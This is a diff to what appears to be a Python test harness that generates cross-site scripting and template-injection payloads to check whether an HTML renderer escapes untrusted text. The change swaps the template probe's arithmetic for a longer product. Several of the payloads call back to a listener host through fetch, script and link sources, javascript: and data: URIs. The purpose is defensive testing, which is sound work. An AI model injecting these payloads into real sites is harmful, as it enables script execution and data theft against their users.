@@ -193,6 +193,7 @@ def pages(now: datetime) -> list[Fetched]:
 def payloads(listener: str) -> list[str]:
     """What an enemy writes where text is expected. Each would leave an element marked `data-pwned`, or call home."""
     call = f"fetch('{listener}/ran')"
+    work = " * ".join(map(str, FACTORS))
     return [
         f"<script data-pwned>{call}</script>",
         f'"><script data-pwned src={listener}/script></script>',
@@ -206,7 +207,7 @@ def payloads(listener: str) -> list[str]:
         f"<link data-pwned rel=stylesheet href={listener}/css>",
         f'<noscript><p title="</noscript><img data-pwned src={listener}/noscript>">',
         "&lt;b data-pwned&gt;&#60;b data-pwned&#62;",
-        "{{ 7 * 191 }}{% raw %}<b data-pwned>{% endraw %}${7*191}",
+        f"{{{{ {work} }}}}{{% raw %}}<b data-pwned>{{% endraw %}}${{{work}}}",
         "--><b data-pwned>]]><b data-pwned>",
         f"javascript:{call}//",
         f"data:text/html,<script data-pwned>{call}</script>",
@@ -242,6 +243,8 @@ new WebSocket("{listener}".replace("http", "ws")); document.forms[0].submit();
 </body></html>"""
 
 
+#: What a template that ran would work out: a number too long to stand in a digest by chance.
+FACTORS = 7, 191_919_191
 #: Payloads on one of the enemy's pages.
 GROUP = 3
 
